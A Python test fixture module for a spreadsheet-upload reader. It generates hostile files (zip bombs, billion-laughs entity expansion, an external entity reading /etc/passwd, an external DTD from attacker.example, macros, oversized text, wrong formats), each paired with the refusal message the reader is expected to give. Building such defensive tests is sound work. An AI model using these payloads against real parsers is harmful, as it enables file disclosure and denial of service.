# ruff: noqa: E501 - a file a line
"""Files made to harm who reads them, or chosen by mistake; each with the one sentence that refuses it."""

import io
import random
from collections.abc import Callable
from zipfile import ZIP_DEFLATED, ZipFile

from tests.purposes.reading.files import ods, ods_parts, xlsx, xlsx_parts, zipped

Hostile = tuple[str, Callable[[], bytes], str]
"""The file's name, what makes it, and the sentence."""

_BOMB = "The file unpacks to far more than a register has: it is not read."
_DAMAGED = "The file is damaged or was cut off: it cannot be read to its end."
_ENTITIES = "The file declares entities of its own, as no spreadsheet does: it is not read."
_ENCRYPTED = "The file is protected by a password: save it without one first."
_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
_DOCTYPE = f"<!DOCTYPE worksheet [{_LAUGHS}]>"
_ELSEWHERE = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_FOREIGN_DTD = '<!DOCTYPE worksheet SYSTEM "http://attacker.example/x.dtd">'

_ODS_CELL = "<table:table-row><table:table-cell{}><text:p>{}</text:p></table:table-cell></table:table-row>"


def _is(kind: str) -> str:
    return f"This file is {kind}; only XLSX, ODS and CSV can be read."


def _bomb() -> bytes:
    return xlsx(f'<row r="1"><c r="A1" t="str"><v>{"0" * 100_000_000}</v></c></row>')


def _bomb_beside() -> bytes:
    return zipped(xlsx_parts() | {"xl/media/image1.bin": bytes(400_000_000)})


def _bomb_in_bomb() -> bytes:
    within = zipped({"more.zip": zipped({"zeros": bytes(10_000_000)})})
    return zipped({f"{number}.zip": within for number in range(1_000)})


def _lying_directory() -> bytes:
    """Says in both places that its sheet has 100 bytes."""
    sheet = "xl/worksheets/sheet1.xml"
    body = bytearray(_bomb())
    with ZipFile(io.BytesIO(bytes(body))) as archive:
        size = archive.getinfo(sheet).file_size.to_bytes(4, "little")
    assert body.count(size) == 2
    return bytes(body.replace(size, (100).to_bytes(4, "little")))


def _many_parts() -> bytes:
    return zipped(xlsx_parts() | {f"xl/media/{number}": "" for number in range(60_000)}, stored=True)


def _twice() -> bytes:
    """Two parts of one name: programs differ in which they read."""
    body = zipped(xlsx_parts() | {"xl/worksheets/sheetX.xml": "<x/>"})
    return body.replace(b"sheetX.xml", b"sheet1.xml")


def _sparse() -> bytes:
    cells = (f'<row r="{row}"><c r="{cell}"><v>1</v></c></row>' for row, cell in ((1, "A1"), (1_048_576, "XFD1048576")))
    return xlsx("".join(cells))


def _million_rows() -> bytes:
    return xlsx("".join(f'<row r="{row}"><c r="A{row}"><v>{row}</v></c></row>' for row in range(1, 1_000_001)))


def _many_cells() -> bytes:
    row = "".join(f'<c r="A{column}"><v>1</v></c>' for column in range(100))
    rows = "".join(f'<row r="{number}" ht="{random.Random(number).random()}">{row}</row>' for number in range(51_000))  # noqa: S311 - no secret
    return xlsx(rows)


def _long_text() -> bytes:
    """50 MB in one cell."""
    return xlsx(f'<row r="1"><c r="A1" t="str"><v>{_text(50_000_000)}</v></c></row>')


def _many_texts() -> bytes:
    """50 MB in a million cells."""
    text = _text(50_000_000)
    return xlsx(texts="".join(f"<si><t>{text[at : at + 50]}</t></si>" for at in range(0, len(text), 50)))


def _long_text_in_ods() -> bytes:
    return ods(_ODS_CELL.format("", _text(50_000_000)))


def _text(size: int) -> str:
    """Random enough not to be taken for a bomb."""
    chooser = random.Random(7)  # noqa: S311 - no secret
    page = "".join(chooser.choices("abcdefghijklmnopqrstuvwxyz", k=100_000))
    return "".join(page[(at := chooser.randrange(90_000)) : at + 1_000] for _ in range(size // 1_000))


def _endless_tag() -> bytes:
    return xlsx(head=f'<x a="{_text(30_000_000)}"')


def _nested() -> bytes:
    text = _text(10_000_000)
    return xlsx(head="".join(f"<a{text[at : at + 10]}>" for at in range(0, len(text), 10)))


def _many_sheets() -> bytes:
    parts = xlsx_parts()
    one = '<sheet name="Register" sheetId="1" r:id="r1"/>'
    parts["xl/workbook.xml"] = str(parts["xl/workbook.xml"]).replace(one, one * 20_001)
    return zipped(parts)


def _encrypted_part() -> bytes:
    body = bytearray(xlsx())
    body[body.index(b"PK\x01\x02") + 8] |= 1
    return bytes(body)


def _with(parts: dict[str, str | bytes], **more: str) -> bytes:
    return zipped(parts | {name.replace("__", "/").replace("_dot_", "."): body for name, body in more.items()})


def _other_zip() -> bytes:
    file = io.BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as archive:
        archive.writestr("holiday.txt", "sun")
    return file.getvalue()


HOSTILE: dict[str, Hostile] = {
    "zip bomb": ("a.xlsx", _bomb, _BOMB),
    "zip bomb beside the sheets": ("a.xlsx", _bomb_beside, _BOMB),
    "zip bomb in zip bombs": ("a.xlsx", _bomb_in_bomb, _is("an archive")),
    "directory that lies": ("a.xlsx", _lying_directory, _DAMAGED),
    "too many parts": ("a.xlsx", _many_parts, _BOMB),
    "two parts of one name": ("a.xlsx", _twice, _DAMAGED),
    "entity expansion": ("a.xlsx", lambda: xlsx('<row r="1"><c r="A1" t="str"><v>&l9;</v></c></row>', head=_DOCTYPE), _ENTITIES),
    "external entity": ("a.xlsx", lambda: xlsx('<row r="1"><c r="A1" t="str"><v>&x;</v></c></row>', head=_ELSEWHERE), _ENTITIES),
    "external document type": ("a.xlsx", lambda: xlsx(head=_FOREIGN_DTD), _ENTITIES),
    "entities in shared texts": ("a.xlsx", lambda: _with(xlsx_parts(), xl__sharedStrings_dot_xml=f"{_DOCTYPE}<sst><si><t>&l9;</t></si></sst>"), _ENTITIES),
    "entities in the links": ("a.xlsx", lambda: _with(xlsx_parts(), **{"_rels/.rels": f"{_DOCTYPE}<a>&l9;</a>"}), _ENTITIES),
    "entity expansion in ODS": ("a.ods", lambda: ods(_ODS_CELL.format("", "&l9;"), head=_DOCTYPE), _ENTITIES),
    "external entity in ODS": ("a.ods", lambda: ods(_ODS_CELL.format("", "&x;"), head=_ELSEWHERE), _ENTITIES),
    "sparse sheet": ("a.xlsx", _sparse, "Cell XFD1048576 of the sheet “Register” lies beyond row 200000 or column SF."),
    "a million rows": ("a.xlsx", _million_rows, "Cell A200001 of the sheet “Register” lies beyond row 200000 or column SF."),
    "too many cells": ("a.xlsx", _many_cells, "The file has more than 5000000 filled cells."),
    "a million rows in ODS": ("a.ods", lambda: ods(_ODS_CELL.format("", "a").replace("table-row>", 'table-row table:number-rows-repeated="1048576">', 1)), "Cell A1048576 of the sheet “Register” lies beyond row 200000 or column SF."),
    "a wide row in ODS": ("a.ods", lambda: ods(_ODS_CELL.format(' table:number-columns-repeated="999999999"', "a")), "Cell CFDGSXK1 of the sheet “Register” lies beyond row 200000 or column SF."),
    "a block in ODS": ("a.ods", lambda: ods(_ODS_CELL.format(' table:number-columns-repeated="500"', "a").replace("table-row>", 'table-row table:number-rows-repeated="200000">', 1)), "The file has more than 5000000 filled cells."),
    "endless blanks in ODS": ("a.ods", lambda: ods(_ODS_CELL.format("", '<text:s text:c="999999999999"/>')), "Cell A1 of the sheet “Register” holds more than 200000 letters."),
    "too many sheets": ("a.xlsx", _many_sheets, "The file has more than 20000 sheets."),
    "formula": ("a.xlsx", lambda: xlsx('<row r="3"><c r="B3" t="str"><f>1+1</f><v>2</v></c></row>'), "Cell B3 of the sheet “Register” holds a formula: put its result in its place."),
    "shared formula": ("a.xlsx", lambda: xlsx('<row r="3"><c r="B3"><f t="shared" si="0"/><v>2</v></c></row>'), "Cell B3 of the sheet “Register” holds a formula: put its result in its place."),
    "formula in ODS": ("a.ods", lambda: ods(_ODS_CELL.format(' table:formula="of:=1+1"', "2")), "Cell A1 of the sheet “Register” holds a formula: put its result in its place."),
    "50 MB of text in a cell": ("a.xlsx", _long_text, "The texts in the file have more than 40 MB together."),
    "50 MB of text in a million cells": ("a.xlsx", _many_texts, "The texts in the file have more than 40 MB together."),
    "50 MB of text in ODS": ("a.ods", _long_text_in_ods, "The texts in the file have more than 40 MB together."),
    "50 MB of text in CSV": ("a.csv", lambda: _text(50_000_000).encode(), "The file has 50 MB; at most 40 MB are read."),
    "30 MB in a cell of a CSV": ("a.csv", lambda: _text(30_000_000).encode(), "Row 1 of the table has more letters than a row may have."),
    "a CSV of commas": ("a.csv", lambda: b"," * 39_000_000, "Row 1 of the table has more letters than a row may have."),
    "a cell of many lines in a CSV": ("a.csv", lambda: b'a\n"' + b"letters\n" * 1_000_000, "Row 2 of the table has more letters than a row may have."),
    "endless tag": ("a.xlsx", _endless_tag, _DAMAGED),
    "endless nesting": ("a.xlsx", _nested, _DAMAGED),
    "PDF": ("a.xlsx", lambda: b"%PDF-1.7\n", _is("a PDF document")),
    "PNG": ("a.xlsx", lambda: b"\x89PNG\r\n\x1a\n", _is("a picture")),
    "PDF as CSV": ("a.csv", lambda: b"%PDF-1.7\n", _is("a PDF document")),
    "web page": ("a.xls", lambda: b"\xef\xbb\xbf\n <!DOCTYPE html><table>", _is("a web page")),
    "web page without a type": ("a.csv", lambda: b"<html><table>", _is("a web page")),
    "XML": ("a.xlsx", lambda: b'<?xml version="1.0"?><Workbook/>', _is("an XML document")),
    "JSON": ("a.csv", lambda: b'{"format": "ropa-register/1"}', _is("a JSON document")),
    "plain text": ("a.xlsx", lambda: b"Purpose,Basis", _is("no spreadsheet")),
    "bytes as text": ("a.csv", lambda: b"a;\0\0\0", _DAMAGED),
    "other archive": ("a.xlsx", _other_zip, _is("an archive")),
    "old workbook": ("a.xlsx", lambda: _COMPOUND + "Workbook".encode("utf-16-le"), _is("an old workbook (.xls)")),
    "old document": ("a.xlsx", lambda: _COMPOUND + "WordDocument".encode("utf-16-le"), _is("an old document of Office")),
    "encrypted": ("a.xlsx", lambda: _COMPOUND + "EncryptedPackage".encode("utf-16-le"), _ENCRYPTED),
    "encrypted part": ("a.xlsx", _encrypted_part, _ENCRYPTED),
    "encrypted ODS": ("a.ods", lambda: _with(ods_parts(), **{"META-INF/manifest.xml": "<manifest:encryption-data/>"}), _ENCRYPTED),
    "macros": ("a.xlsx", lambda: _with(xlsx_parts(), xl__vbaProject_dot_bin="x"), _is("a workbook with macros (.xlsm)")),
    "macros by type": ("a.xlsx", lambda: _with(xlsx_parts(), **{"[Content_Types].xml": "<a b='sheet.macroEnabled.main+xml'/>"}), _is("a workbook with macros (.xlsm)")),
    "binary workbook": ("a.xlsx", lambda: _with(xlsx_parts(), xl__workbook_dot_bin="x"), _is("a binary workbook (.xlsb)")),
    "text document": ("a.xlsx", lambda: zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>"}), _is("a text document")),
    "text document of LibreOffice": ("a.ods", lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), _is("a document of another kind")),
    "empty": ("a.xlsx", lambda: b"", "The file is empty."),
    "cut off": ("a.xlsx", lambda: xlsx()[:-200], _DAMAGED),
    "cut off in the middle": ("a.ods", lambda: ods()[:300], _DAMAGED),
    "without its sheet": ("a.xlsx", lambda: zipped({name: body for name, body in xlsx_parts().items() if "sheet1" not in name}), _DAMAGED),
    "sheet cut off": ("a.xlsx", lambda: _with(xlsx_parts(), **{"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row>"}), _DAMAGED),
    "text that is not there": ("a.xlsx", lambda: xlsx('<row r="1"><c r="A1" t="s"><v>7</v></c></row>'), _DAMAGED),
    "number that is none": ("a.xlsx", lambda: xlsx('<row r="1"><c r="A1"><v>nan</v></c></row>'), _DAMAGED),
    "row that is none": ("a.xlsx", lambda: xlsx(f'<row r="{"9" * 5_000}"/>'), _DAMAGED),
    "address of another row": ("a.xlsx", lambda: xlsx('<row r="1"><c r="A2"><v>1</v></c></row>'), _DAMAGED),
    "day that is none": ("a.ods", lambda: ods(_ODS_CELL.format(' office:value-type="date" office:date-value="2026-02-30"', "x")), _DAMAGED),
}  # fmt: skip
